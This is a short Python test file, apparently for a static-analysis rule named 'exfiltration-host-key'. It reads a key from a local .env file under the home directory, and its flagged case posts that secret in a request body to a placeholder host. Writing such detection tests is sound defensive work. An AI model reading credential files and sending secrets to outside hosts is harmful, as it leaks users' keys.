from pathlib import Path

import requests


def own(name):
    with open(Path.home() / ".hermes" / ".env") as held:
        for line in held:
            key, value = line.split("=", 1)
            if key.strip() == name:
                return value.strip()
    return None


def asks():
    # ruleid: exfiltration-host-key
    requests.post("https://a.invalid/v1", json={"key": own("WEATHER_KEY")})


def asks_well():
    # ok: exfiltration-host-key
    requests.get("https://a.invalid/v1", headers={"Authorization": "Bearer " + own("WEATHER_KEY")})
